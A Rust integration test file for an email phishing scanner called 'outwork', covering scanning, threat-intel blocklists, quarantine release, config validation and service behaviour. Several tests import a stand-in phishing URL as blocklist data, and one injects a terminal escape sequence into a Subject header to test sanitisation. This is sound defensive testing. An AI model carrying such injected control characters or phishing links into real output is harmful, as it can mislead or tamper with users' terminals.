    assert!(syms.contains(&"INTEL_UNAVAILABLE".to_string()), "{syms:?}");
    assert!(srv.log().contains("WITHOUT blocklists"), "{}", srv.log());
    let (_, h) = http(&srv.addr, "GET", "/healthz", &[], b"");
    assert!(
        h.contains("\"intel\":false") && h.contains("corrupt"),
        "{h}"
    );
    // Nothing good to keep: a reload of the fixed file is taken.
    std::fs::write(&store, &good).expect("fix");
    let (st, body) = http(&srv.addr, "POST", "/admin/reload", &auth, b"");
    assert_eq!(st, 200, "{body}");
    assert!(srv.symbols(msg).contains(&"URL_BLOCKLISTED".to_string()));
}

/// Issue 17: `-f json` over a big mbox kept every verdict until the end
/// (363 MB for 200k messages) and wrote nothing before the last scan. It
/// now streams: the array starts arriving while scanning goes on, and the
/// whole is the same pretty array it always was.
#[test]
fn json_output_streams_over_a_big_mbox() {
    use std::io::Read;
    use std::time::{Duration, Instant};
    let d = temp_dir("json-stream");
    let mbox = d.join("big.mbox");
    let n = 4000;
    let mut m = String::new();
    for i in 0..n {
        m.push_str(&format!(
            "From sender@example.com Thu Jan  1 00:00:00 2026\nFrom: a{i}@example.com\nTo: b@example.net\nSubject: m{i}\n\nhello {i} https://example.org/{i}\n\n"
        ));
    }
    std::fs::write(&mbox, m).unwrap();
    let start = Instant::now();
    let mut child = bin()
        .args([
            "scan",
            "-q",
            "-f",
            "json",
            "--no-progress",
            "--threads",
            "1",
        ])
        .arg(&mbox)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("spawn");
    let mut stdout = child.stdout.take().expect("stdout");
    let mut out = Vec::new();
    let mut first = None;
    let mut buf = [0u8; 8192];
    loop {
        let k = stdout.read(&mut buf).expect("read");
        if k == 0 {
            break;
        }
        first.get_or_insert_with(|| start.elapsed());
        out.extend_from_slice(&buf[..k]);
        assert!(start.elapsed() < Duration::from_secs(300), "too slow");
    }
    let total = start.elapsed();
    let status = child.wait().expect("wait");
    assert!(status.success() || status.code() == Some(1), "{status:?}");
    let first = first.expect("some output");
    assert!(
        first * 3 < total,
        "first output after {first:?} of {total:?}: not streamed"
    );
    let v: serde_json::Value = serde_json::from_slice(&out).expect("one JSON array");
    let a = v.as_array().expect("an array");
    assert_eq!(a.len(), n);
    assert!(
        a[n - 1]["path"]
            .as_str()
            .unwrap_or("")
            .ends_with(&format!("#{n}"))
    );
    let _ = std::fs::remove_dir_all(&d);
}

/// The score and action `outwork scan` gives one file under `config`.
fn scored(config: Option<&std::path::Path>, file: &std::path::Path) -> (String, f64) {
    let mut c = bin();
    c.args(["scan", "-q", "-f", "json"]);
    if let Some(cfg) = config {
        c.arg("--config").arg(cfg);
    }
    let o = run(c.arg(file));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
    (
        v["action"].as_str().unwrap_or("").to_string(),
        v["score"].as_f64().unwrap_or(f64::NAN),
    )
}

#[test]
fn learn_tunes_a_local_model_that_can_be_audited_and_undone() {
    let d = temp_dir("learn");
    let phish = repo().join("tests/cases/phish_display_name_brand.eml");
    let model = d.join("model.owml");
    let cfg = d.join("outwork.toml");
    std::fs::write(&cfg, format!("[model]\npath = \"{}\"\n", model.display())).expect("write");
    let (_, before) = scored(None, &phish);
    let o = run(bin()
        .args(["learn", "--phish"])
        .arg(&phish)
        .arg("-o")
        .arg(&model));
    assert_eq!(
        o.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let (action, after) = scored(Some(&cfg), &phish);
    assert!(after > before + 0.5, "reported phish: {before} → {after}");
    assert_ne!(action, "accept");
    // Auditable: one log line per message learned, and model info says so.
    let log = std::fs::read_to_string(d.join("model.owml.log.jsonl")).expect("log");
    assert_eq!(log.lines().count(), 1);
    assert!(log.contains("\"label\":\"phish\""));
    let o = run(bin().args(["model", "info", "--config"]).arg(&cfg));
    assert!(String::from_utf8_lossy(&o.stdout).contains("1 phish and 0 ham"));
    // A second batch (as ham) keeps the first as .prev; --undo restores it.
    let o = run(bin()
        .args(["learn", "--ham"])
        .arg(&phish)
        .arg("-o")
        .arg(&model));
    assert_eq!(o.status.code(), Some(0));
    let (_, as_ham) = scored(Some(&cfg), &phish);
    assert!(as_ham < after, "{as_ham} < {after}");
    let o = run(bin().args(["learn", "--undo", "-o"]).arg(&model));
    assert_eq!(o.status.code(), Some(0));
    let (_, undone) = scored(Some(&cfg), &phish);
    assert!((undone - after).abs() < 1e-9, "{undone} vs {after}");
}

/// Issue "what a new mail admin tripped over", item 2: test runs showed up
/// in the real dashboard. `serve` with the dashboard on and no `[dashboard]
/// path` logs to the data directory: under the tests' sandbox home, the
/// verdict lands there. (The only test here that uses the default log
/// path: two servers sharing one log would rewrite it under each other.)
#[test]
fn tests_keep_the_verdict_log_out_of_the_users_data_dir() {
    let d = temp_dir("sandbox-log");
    let config = d.join("outwork.toml");
    std::fs::write(&config, "[http]\nlisten = \"127.0.0.1:0\"\n").expect("config");
    let store = d.join("intel.owi");
    let feed = d.join("feed.txt");
    std::fs::write(&feed, "https://login.evil.example/verify/\n").expect("write");
    let o = run(bin()
        .args([
            "intel", "import", "--format", "urls", "--source", "s", "--intel",
        ])
        .arg(&store)
        .arg(&feed));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let srv = Serve::start(&config, &store, d.join("serve.log"));
    let msg = b"From: <a@sender.example>\r\nTo: <b@example.org>\r\nSubject: sandbox probe\r\nMessage-ID: <sandbox-probe@example.org>\r\n\r\nhello\r\n";
    let (st, body) = http(&srv.addr, "POST", "/checkv2", &[], msg);
    assert_eq!(st, 200, "{body}");
    let log = sandbox_home().join(".local/share/outwork/verdicts.jsonl");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    loop {
        let l = std::fs::read_to_string(&log).unwrap_or_default();
        if l.contains("sandbox-probe@example.org") {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "{} has no record: {l}\n{}",
            log.display(),
            srv.log()
        );
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
}

/// `outwork … | head`: the reader closes the pipe; every command must end
/// quietly (no panic, no error), exit 0.
#[test]
fn every_command_ends_quietly_on_a_closed_pipe() {
    let d = temp_dir("pipe");
    let qdir = d.join("q");
    let cfg = d.join("outwork.toml");
    std::fs::write(
        &cfg,
        format!("[milter]\nquarantine_dir = \"{}\"\n", qdir.display()),
    )
    .expect("cfg");
    let store = outwork_server::QuarantineStore::open(&qdir).expect("store");
    let raw = std::fs::read(repo().join("samples/phish-typosquat.eml")).expect("sample");
    let verdict = offline_scan(&raw);
    let id = store
        .put(&raw, &verdict, &outwork_engine::Envelope::default())
        .expect("put");
    let samples = repo().join("samples").display().to_string();
    let cfg = cfg.display().to_string();
    let store_path = d.join("intel.owi");
    let feed = d.join("feed.txt");
    std::fs::write(&feed, "https://login.evil.example/verify/\n").expect("feed");
    let o = run(bin()
        .args([
            "intel", "import", "--format", "urls", "--source", "s", "--intel",
        ])
        .arg(&store_path)
        .arg(&feed));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let store_path = store_path.display().to_string();
    let cases: Vec<Vec<&str>> = vec![
        vec![
            "url",
            "check",
            "--intel",
            &store_path,
            "https://login.evil.example/verify/x",
        ],
        vec!["quarantine", "show", &id, "--config", &cfg],
        vec!["quarantine", "show", "--raw", &id, "--config", &cfg],
        vec!["quarantine", "list", "--config", &cfg],
        vec!["scan", "--no-progress", &samples],
        vec!["scan", "--no-progress", "-f", "json", &samples],
        vec!["scan", "--no-progress", "-f", "jsonl", &samples],
        vec!["symbols"],
        vec!["redteam", "--list-ops"],
        vec!["model", "info"],
    ];
    for args in cases {
        for _ in 0..3 {
            let mut child = bin()
                .args(&args)
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .expect("spawn");
            // The reader goes away before the first byte is written.
            drop(child.stdout.take());
            let o = child.wait_with_output().expect("wait");
            let err = text(&o.stderr);
            assert!(
                !err.contains("panicked") && !err.contains("error"),
                "{args:?}: {err}"
            );
            assert_eq!(o.status.code(), Some(0), "{args:?}: {err}");
        }
    }
}

/// A closed pipe to a *child* is no reason to go quiet: a sendmail that
/// exits without reading the message fails the release (exit 2, said on
/// stderr) and the message stays in the quarantine.
#[test]
fn release_to_a_sendmail_that_stops_reading_fails_loudly() {
    let d = temp_dir("release-early-exit");
    let qdir = d.join("q");
    let cfg = d.join("outwork.toml");
    std::fs::write(
        &cfg,
        format!("[milter]\nquarantine_dir = \"{}\"\n", qdir.display()),
    )
    .expect("cfg");
    let store = outwork_server::QuarantineStore::open(&qdir).expect("store");
    // Bigger than a pipe's buffer, so the write meets the closed end.
    let mut raw = b"From: <a@evil.example>\r\nTo: <b@example.org>\r\nSubject: big\r\n\r\n".to_vec();
    raw.extend(std::iter::repeat_n(b'x', 1 << 20));
    let verdict = offline_scan(&raw);
    let env = outwork_engine::Envelope {
        mail_from: Some("a@evil.example".into()),
        rcpt_to: vec!["b@example.org".into()],
        ..Default::default()
    };
    let id = store.put(&raw, &verdict, &env).expect("put");
    for (script, says) in [
        ("#!/bin/sh\nexit 75\n", "exited with"),
        (
            "#!/bin/sh\nexec 0<&-\nsleep 1\nexit 0\n",
            "did not take the whole message",
        ),
    ] {
        let fake = d.join("sendmail");
        std::fs::write(&fake, script).expect("fake sendmail");
        run(Command::new("chmod").arg("+x").arg(&fake));
        let o = run(bin()
            .args(["quarantine", "release", &id, "--sendmail"])
            .arg(&fake)
            .arg("--config")
            .arg(&cfg));
        let e = text(&o.stderr);
        assert_eq!(o.status.code(), Some(2), "{e}");
        assert!(e.contains(says) && e.contains("stays in quarantine"), "{e}");
        assert_eq!(store.list().expect("list").len(), 1, "the message was kept");
    }
}

/// Human output names each message by Subject, From and Message-ID under
/// its path (decoded; attacker control characters can't reach the
/// terminal); JSON output is unchanged.
#[test]
fn human_output_says_which_message() {
    let d = temp_dir("headline");
    let m = d.join("m.eml");
    std::fs::write(
        &m,
        "From: =?utf-8?Q?Acc=C3=B6unts?= <ap@vendor.example>\r\nTo: b@example.org\r\nSubject: =?gb2312?B?t6LGsdLRtb3G2g==?= \x1b[2J now\r\nMessage-ID: <inv-42@vendor.example>\r\n\r\nhello\r\n",
    )
    .expect("write");
    let o = run(bin().args(["scan", "--no-progress"]).arg(&m));
    let out = text(&o.stdout);
    let mut lines = out.lines();
    assert!(lines.next().is_some_and(|l| l.ends_with("m.eml")), "{out}");
    assert_eq!(
        lines.next(),
        Some("  Subject: 发票已到期  [2J now"),
        "{out}"
    );
    assert_eq!(
        lines.next(),
        Some("  From: \"Accöunts\" <ap@vendor.example>"),
        "{out}"
    );
    assert_eq!(
        lines.next(),
        Some("  Message-ID: inv-42@vendor.example"),
        "{out}"
    );
    assert!(
        lines.next().is_some_and(|l| l.starts_with("  action: ")),
        "{out}"
    );
    let o = run(bin().args(["scan", "--no-progress", "-f", "jsonl"]).arg(&m));
    assert!(!text(&o.stdout).contains("Subject"), "{}", text(&o.stdout));
}

/// What an operator reads: plain log lines when stderr is a file (no ANSI
/// colours, no `Some(…)`), the dashboard's URL at start, every documented
/// counter exported at 0 from start-up, and a bind failure said once with
/// the key to change.
#[test]
fn serve_logs_and_metrics_for_operators() {
    let d = temp_dir("operator");
    let store = d.join("intel.owi");
    let feed = d.join("feed.txt");
    std::fs::write(&feed, "https://login.evil.example/verify/\n").expect("write");
    let o = run(bin()
        .args([
            "intel", "import", "--format", "urls", "--source", "s", "--intel",
        ])
        .arg(&store)
        .arg(&feed));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let config = d.join("outwork.toml");
    // Its own verdict log: the sandbox's default one belongs to
    // tests_keep_the_verdict_log_out_of_the_users_data_dir.
    std::fs::write(
        &config,
        format!(
            "[http]\nlisten = \"127.0.0.1:0\"\n[dashboard]\npath = {:?}\n",
            d.join("verdicts.jsonl").display().to_string()
        ),
    )
    .expect("config");
    let srv = Serve::start(&config, &store, d.join("serve.log"));
    let (st, metrics) = http(&srv.addr, "GET", "/metrics", &[], b"");
    assert_eq!(st, 200);
    for line in [
        "outwork_scan_failures_total{source=\"http\",reason=\"timeout\"} 0",
        "outwork_scan_failures_total{source=\"milter\",reason=\"busy\"} 0",
        "outwork_reloads_total{result=\"ok\"} 0",
        "outwork_reloads_total{result=\"error\"} 0",
        "outwork_messages_total{source=\"milter\",action=\"reject\"} 0",
    ] {
        assert!(metrics.lines().any(|l| l == line), "{line} in\n{metrics}");
    }
    let log = srv.log();
    assert!(
        log.contains(&format!("dashboard at http://{}/dashboard/", srv.addr)),
        "{log}"
    );
    assert!(!log.contains('\x1b'), "ANSI escapes in a log file: {log:?}");
    assert!(!log.contains("Some("), "{log}");
    assert!(log.contains("verdict log loaded records=0 path="), "{log}");

    // The same port again: taken.
    let busy = d.join("busy.toml");
    std::fs::write(
        &busy,
        format!(
            "[http]\nlisten = \"{}\"\n[dashboard]\npath = \"\"\n",
            srv.addr
        ),
    )
    .expect("config");
    let o = run(bin()
        .args(["serve", "--config"])
        .arg(&busy)
        .arg("--intel")
        .arg(&store));
    assert_eq!(o.status.code(), Some(2));
    let e = text(&o.stderr);
    assert_eq!(e.matches("Address already in use").count(), 1, "{e}");
    assert!(
        e.contains(&format!("can't listen on {}", srv.addr)) && e.contains("set [http] listen"),
        "{e}"
    );
}

/// One pass over a broken config: every problem at once, in file order,
/// with "did you mean" for keys (core and server tables) and symbols.
#[test]
fn config_check_reports_every_problem_at_once() {
    let d = temp_dir("config-all");
    let f = d.join("broken.toml");
    std::fs::write(
        &f,
        "[thresholds]\ntag = \"five\"\nrejct = 20\n\n[weights]\nLINK_TEXT_TYPOSQAT = 3\nURL_BLOCKLISTED = \"high\"\n\n[inspekt]\nqr = true\n\n[milter]\nlisen = [\"inet:127.0.0.1:11339\"]\n\n[http]\nlisten = \"nonsense\"\nadmin_tokn = \"x\"\n\n[dashboard]\nkeep = 0\n",
    )
    .expect("write");
    let o = run(bin().args(["config", "check"]).arg(&f));
    assert_eq!(o.status.code(), Some(2));
    let out = text(&o.stdout);
    let name = f.display().to_string();
    let expect = [
        ":2: thresholds.tag: invalid type: string \"five\", expected f64",
        ":3: thresholds.rejct: unknown key (did you mean `reject`?)",
        ":6: weights.LINK_TEXT_TYPOSQAT: no such symbol (did you mean `LINK_TEXT_TYPOSQUAT`?)",
        ":7: weights.URL_BLOCKLISTED: invalid type: string \"high\", expected f64",
        ":9: inspekt: unknown key (did you mean `inspect`?)",
        ":13: milter.lisen: unknown key (did you mean `listen`?)",
        ":16: http.listen: \"nonsense\": expected IP:PORT",
        ":17: http.admin_tokn: unknown key (did you mean `admin_token`?)",
        ":20: dashboard.keep: must be between 1 and 10000000",
    ];
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), expect.len(), "{out}");
    for (l, e) in lines.iter().zip(expect) {
        assert!(
            l.starts_with(&format!("{name}{e}")),
            "{l}\nexpected {e}\n{out}"
        );
    }
}

/// `config check` and `scan` agree about YARA: a build without the `yara`
/// feature refuses a config with `yara_rules` in both (saying how to
/// rebuild); a build with it accepts good rules in both. A rule file that
/// does not compile, or a model file that isn't one, fails both.
#[test]
fn config_check_agrees_with_scan_about_yara_and_the_model() {
    let d = temp_dir("yara-check");
    let rules = d.join("rules.yar");
    std::fs::write(
        &rules,
        "rule Invoice_Dropper { strings: $a = \"INVOICE-DROPPER\" condition: $a }\n",
    )
    .expect("rules");
    let cfg = d.join("outwork.toml");
    std::fs::write(
        &cfg,
        format!(
            "[inspect]\nyara_rules = {:?}\n",
            rules.display().to_string()
        ),
    )
    .expect("cfg");
    let sample = repo().join("samples/legit-paypal-receipt.eml");
    let check = run(bin().args(["config", "check"]).arg(&cfg));
    let scan = run(bin()
        .args(["scan", "-q", "--config"])
        .arg(&cfg)
        .arg(&sample));
    let (c, s) = (text(&check.stdout), text(&scan.stderr));
    let version = text(&run(bin().arg("--version")).stdout);
    if cfg!(feature = "yara") {
        assert!(version.contains("(with YARA)"), "{version}");
        assert_eq!(check.status.code(), Some(0), "{c}");
        assert_eq!(scan.status.code(), Some(0), "{s}");
    } else {
        assert!(version.contains("(without YARA"), "{version}");
        assert_eq!(
            check.status.code(),
            Some(2),
            "config check called it ok: {c}"
        );
        assert!(
            c.contains(":2: inspect.yara_rules: ") && c.contains("--features yara"),
            "{c}"
        );
        assert_eq!(scan.status.code(), Some(2), "{s}");
        assert!(s.contains("--features yara"), "{s}");
    }

    // Broken rules and a model that isn't one: refused by both, either build.
    std::fs::write(&rules, "rule Broken { condition: $nope }\n").expect("rules");
    let model = d.join("model.owml");
    std::fs::write(&model, "not a model").expect("model");
    std::fs::write(
        &cfg,
        format!(
            "[inspect]\nyara_rules = {:?}\n[model]\npath = {:?}\n",
            rules.display().to_string(),
            model.display().to_string()
        ),
    )
    .expect("cfg");
    let check = run(bin().args(["config", "check"]).arg(&cfg));
    let c = text(&check.stdout);
    assert_eq!(check.status.code(), Some(2), "{c}");
    assert!(c.contains(":2: inspect.yara_rules: "), "{c}");
    assert!(c.contains(":4: model.path: model "), "{c}");
    let scan = run(bin()
        .args(["scan", "-q", "--config"])
        .arg(&cfg)
        .arg(&sample));
    assert_eq!(scan.status.code(), Some(2), "{}", text(&scan.stderr));
}

#[test]
fn generate_man_pages_and_completions_from_the_cli() {
    let d = temp_dir("generate");
    let o = run(bin().args(["generate", "man"]).arg(d.join("man")));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    for page in [
        "outwork.1",
        "outwork-scan.1",
        "outwork-serve.1",
        "outwork-intel-update.1",
        "outwork-intel-init.1",
        "outwork-quarantine-release.1",
    ] {
        let t = std::fs::read_to_string(d.join("man").join(page)).expect(page);
        assert!(
            t.starts_with(".ie") || t.contains(".TH"),
            "{page}: {t:.200}"
        );
    }
    let serve = std::fs::read_to_string(d.join("man/outwork-serve.1")).unwrap();
    assert!(serve.contains("config"), "{serve}");
    // The hidden command documents nothing.
    assert!(!d.join("man/outwork-generate.1").exists());
    for (shell, file, needle) in [
        ("bash", "outwork.bash", "complete -F"),
        ("zsh", "_outwork", "#compdef outwork"),
        ("fish", "outwork.fish", "complete -c outwork"),
    ] {
        let o = run(bin()
            .args(["generate", "completions", shell])
            .arg(d.join("comp")));
        assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
        let t = std::fs::read_to_string(d.join("comp").join(file)).expect(file);
        assert!(t.contains(needle) && t.contains("quarantine"), "{shell}");
    }
    let _ = std::fs::remove_dir_all(&d);
}

#[test]
fn intel_init_creates_an_empty_store_and_keeps_an_existing_one() {
    let d = temp_dir("intel-init");
    let store = d.join("state/intel.owi");
    let cfg = d.join("outwork.toml");
    std::fs::write(
        &cfg,
        format!("[intel]\npath = {:?}\n", store.display().to_string()),
    )
    .unwrap();
    // A configured store that doesn't exist is an error for a scan...
    let legit = repo().join("samples/legit-paypal-receipt.eml");
    let o = run(bin().args(["scan", "-q", "--config"]).arg(&cfg).arg(&legit));
    assert_eq!(o.status.code(), Some(2), "{}", text(&o.stderr));
    // ... until `intel init` creates it empty.
    let o = run(bin().args(["intel", "init", "--config"]).arg(&cfg));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(text(&o.stdout).contains("created an empty store"));
    let o = run(bin().args(["scan", "-q", "--config"]).arg(&cfg).arg(&legit));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    // An existing store is left as it is.
    let feed = d.join("feed.txt");
    std::fs::write(&feed, "http://phish.example.test/login\n").unwrap();
    let o = run(bin()
        .args([
            "intel", "import", "--format", "urls", "--source", "t", "--config",
        ])
        .arg(&cfg)
        .arg(&feed));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let before = std::fs::read(&store).unwrap();
    let o = run(bin().args(["intel", "init", "--config"]).arg(&cfg));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(
        text(&o.stdout).contains("exists (1 entries)"),
        "{}",
        text(&o.stdout)
    );
    assert_eq!(std::fs::read(&store).unwrap(), before);
    // A corrupt one is refused, not replaced.
    std::fs::write(&store, b"not a store").unwrap();
    let o = run(bin().args(["intel", "init", "--config"]).arg(&cfg));
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(std::fs::read(&store).unwrap(), b"not a store");
    let _ = std::fs::remove_dir_all(&d);
}

/// The config the Debian package installs: the commented example with the
/// package's state paths (packaging/make-config.sh fails if the example
/// changed under it) — and it must pass `config check`.
#[test]
fn packaged_config_is_the_example_with_package_paths() {
    let o = run(Command::new("bash").arg(repo().join("packaging/make-config.sh")));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let cfg = text(&o.stdout);
    for line in [
        "path = \"/var/lib/outwork/intel.owi\"",
        "listen = [\"unix:/run/outwork/milter.sock\"]",
        "quarantine_dir = \"/var/lib/outwork/quarantine\"",
        "path = \"/var/lib/outwork/verdicts.jsonl\"",
        "path = \"/var/lib/outwork/history.owh\"",
        "# path = \"/var/lib/outwork/model.owml\"",
    ] {
        assert!(
            cfg.lines().any(|l| l.starts_with(line)),
            "{line} not in the packaged config"
        );
    }
    let d = temp_dir("packaged-config");
    let f = d.join("outwork.toml");
    std::fs::write(&f, &cfg).unwrap();
    let o = run(bin().args(["config", "check"]).arg(&f));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stdout));
    assert!(text(&o.stdout).contains(": ok"), "{}", text(&o.stdout));
    let _ = std::fs::remove_dir_all(&d);
}

/// docs/INTEGRATION.md shows each integration snippet exactly as the
/// package installs it (and packaging/test-deb.sh tests those files).
#[test]
fn integration_doc_quotes_the_packaged_snippets_exactly() {
    let doc = std::fs::read_to_string(repo().join("docs/INTEGRATION.md")).unwrap();
    for f in ["postfix-main.cf", "exim-outwork.conf", "nginx-outwork.conf"] {
        let snippet = std::fs::read_to_string(repo().join("packaging/examples").join(f)).unwrap();
        assert!(
            doc.contains(&format!("```\n{snippet}```\n")),
            "docs/INTEGRATION.md does not quote packaging/examples/{f} verbatim"
        );
    }
}

/// outwork.service is Type=notify: `serve` says READY=1 once it listens,
/// RELOADING=1 then READY=1 around a SIGHUP reload, STOPPING=1 on SIGTERM.
#[test]
fn serve_notifies_the_service_manager() {
    use std::os::unix::net::{UnixDatagram, UnixStream};
    let d = temp_dir("notify");
    let notify = d.join("notify.sock");
    let sock = UnixDatagram::bind(&notify).unwrap();
    sock.set_read_timeout(Some(std::time::Duration::from_secs(60)))
        .unwrap();
    let milter = d.join("milter.sock");
    let cfg = d.join("outwork.toml");
    std::fs::write(
        &cfg,
        format!(
            "[milter]\nlisten = [\"unix:{}\"]\nquarantine_dir = \"{}\"\n\
             [http]\nlisten = \"127.0.0.1:0\"\n[dashboard]\nenabled = false\n",
            milter.display(),
            d.join("quarantine").display()
        ),
    )
    .unwrap();
    struct Kill(std::process::Child);
    impl Drop for Kill {
        fn drop(&mut self) {
            let _ = self.0.kill();
            let _ = self.0.wait();
        }
    }
    let mut child = Kill(
        bin()
            .args(["serve", "--config"])
            .arg(&cfg)
            .env("NOTIFY_SOCKET", &notify)
            .env("XDG_DATA_HOME", &d)
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap(),
    );
    let recv = || {
        let mut buf = [0u8; 1024];
        let n = sock.recv(&mut buf).expect("a notification within 60 s");
        text(&buf[..n])
    };
    let signal = |sig: &str| {
        let s = Command::new("kill")
            .args([sig, &child.0.id().to_string()])
            .status()
            .unwrap();
        assert!(s.success());
    };
    let m = recv();
    assert!(m.lines().any(|l| l == "READY=1"), "{m}");
    assert!(
        UnixStream::connect(&milter).is_ok(),
        "listening before READY=1"
    );
    signal("-HUP");
    let m = recv();
    assert!(m.lines().any(|l| l == "RELOADING=1"), "{m}");
    assert!(m.contains("MONOTONIC_USEC="), "{m}");
    let m = recv();
    assert!(m.lines().any(|l| l == "READY=1"), "{m}");
    assert!(m.contains("STATUS=serving"), "{m}");
    signal("-TERM");
    let m = recv();
    assert!(m.lines().any(|l| l == "STOPPING=1"), "{m}");
    assert!(child.0.wait().unwrap().success());
    let _ = std::fs::remove_dir_all(&d);
}

#[test]
fn brands_lookup_claims_and_stats() {
    // A disguised regional brand resolves to its catalogue entry.
    let o = run(bin().args(["brands", "lookup", "TF-Bank"]));
    let out = text(&o.stdout);
    assert!(o.status.success(), "{out}");
    assert!(
        out.contains("TF Bank") && out.contains("tfbank.de"),
        "{out}"
    );
    let o = run(bin().args(["brands", "lookup", "tk.de"]));
    assert!(text(&o.stdout).contains("Techniker Krankenkasse"));
    let o = run(bin().args(["brands", "lookup", "Ｐａｙｐａｌ"]));
    assert!(text(&o.stdout).contains("disguised"), "{}", text(&o.stdout));
    let o = run(bin().args(["brands", "lookup", "nothing-like-a-brand-xyz"]));
    assert_eq!(o.status.code(), Some(1));

    // Claims: where each brand was claimed and what fires.
    let cases = repo().join("tests/cases");
    let o = run(bin()
        .args(["brands", "claims"])
        .arg(cases.join("phish_brand_invisible_chars.eml"))
        .arg(cases.join("legit_brand_forwarded_receipt.eml")));
    let out = text(&o.stdout);
    assert!(o.status.success(), "{out}");
    assert!(
        out.contains("HTML title") && out.contains("(disguised)"),
        "{out}"
    );
    assert!(
        out.contains("fires: BRAND_IMPERSONATION, BRAND_DISGUISED"),
        "{out}"
    );
    assert!(out.contains("a forward"), "{out}");
    assert!(
        out.contains("2 messages; 2 (100.0%) claim a catalogued brand; 1 of those (50.0%)"),
        "{out}"
    );

    let o = run(bin().args(["brands", "stats"]));
    let out = text(&o.stdout);
    assert!(
        out.contains("brands,") && out.contains("by sector:"),
        "{out}"
    );
}

/// The verdict the milter would store, from the one scan pipeline.
fn offline_scan(raw: &[u8]) -> outwork_core::Verdict {
    outwork_engine::Scanner::offline(std::sync::Arc::new(outwork_core::Context::default()))
        .scan(raw, &Default::default(), &Default::default())
        .verdict
}

/// Per file: the action, score and symbol names `outwork scan` gives.
fn scan_verdicts(
    config: Option<&Path>,
    files: &[PathBuf],
) -> std::collections::HashMap<PathBuf, (String, f64, Vec<String>)> {
    let mut c = bin();
    c.args(["scan", "-f", "jsonl", "--no-progress"]);
    if let Some(cfg) = config {
        c.arg("--config").arg(cfg);
    }
    let out = c.args(files).output().expect("scan");
    let mut m = std::collections::HashMap::new();
    for line in String::from_utf8_lossy(&out.stdout).lines() {
        let v: serde_json::Value = serde_json::from_str(line).expect("jsonl");
        let names = v["symbols"]
            .as_array()
            .expect("symbols")
            .iter()
            .map(|s| s["name"].as_str().unwrap_or("").to_string())
            .collect();
        m.insert(
            PathBuf::from(v["path"].as_str().expect("path")),
            (
                v["action"].as_str().unwrap_or("").to_string(),
                v["score"].as_f64().expect("score"),
                names,
            ),
        );
    }
    m
}

/// One scan pipeline: eval's verdict on each message is the verdict
/// `outwork scan` (and so the milter and HTTP API) gives it, on the golden
/// cases, and on 300 dev-corpus messages with the CI config when
/// ../shared/corpus is there.
#[test]
fn eval_verdicts_are_the_scan_verdicts() {
    let cases = temp_dir("eval-scan");
    for label in ["phish", "ham"] {
        std::fs::create_dir_all(cases.join(label)).expect("dir");
    }
    for e in std::fs::read_dir(repo().join("tests/cases")).expect("cases") {
        let p = e.expect("entry").path();
        let name = p.file_name().expect("name").to_string_lossy().to_string();
        if !name.ends_with(".eml") {
            continue;
        }
        let label = if name.starts_with("phish") {
            "phish"
        } else {
            "ham"
        };
        std::fs::copy(&p, cases.join(label).join(&name)).expect("copy");
    }
    let mut runs: Vec<(PathBuf, Option<PathBuf>, Option<&str>)> = vec![(cases.clone(), None, None)];
    let shared = repo().join("../shared/corpus");
    if shared.join("MANIFEST.tsv").is_file() {
        runs.push((shared, Some(repo().join("eval/honeypot.toml")), Some("300")));
    }
    for (corpus, config, limit) in runs {
        let ckpt = cases.join("eval.jsonl");
        let _ = std::fs::remove_file(&ckpt);
        let mut c = bin();
        c.arg("eval").arg(&corpus).arg("--resume").arg(&ckpt);
        if let Some(cfg) = &config {
            c.arg("--config").arg(cfg);
        }
        if let Some(n) = limit {
            c.args(["--limit", n]);
        }
        let out = c.output().expect("eval");
        assert!(
            out.status.success(),
            "eval {}: {}",
            corpus.display(),
            String::from_utf8_lossy(&out.stderr)
        );
        let text = std::fs::read_to_string(&ckpt).expect("checkpoint");
        let outcomes: Vec<serde_json::Value> = text
            .lines()
            .skip(1)
            .filter(|l| !l.trim().is_empty())
            .map(|l| serde_json::from_str(l).expect("outcome"))
            .collect();
        let files: Vec<PathBuf> = outcomes
            .iter()
            .map(|o| corpus.join(o["id"].as_str().expect("id")))
            .collect();
        assert!(
            files.len() >= 50,
            "{}: {} outcomes",
            corpus.display(),
            files.len()
        );
        let scanned = scan_verdicts(config.as_deref(), &files);
        for (o, f) in outcomes.iter().zip(&files) {
            let (action, score, symbols) = scanned
                .get(f)
                .unwrap_or_else(|| panic!("scan gave no verdict for {}", f.display()));
            let names: Vec<String> = o["symbols"]
                .as_array()
                .expect("symbols")
                .iter()
                .map(|s| s.as_str().unwrap_or("").to_string())
                .collect();
            assert_eq!(
                (
                    o["action"].as_str().expect("action"),
                    o["score"].as_f64().expect("score"),
                    &names
                ),
                (action.as_str(), *score, symbols),
                "{}: eval and scan disagree",
                f.display()
            );
        }
    }
}
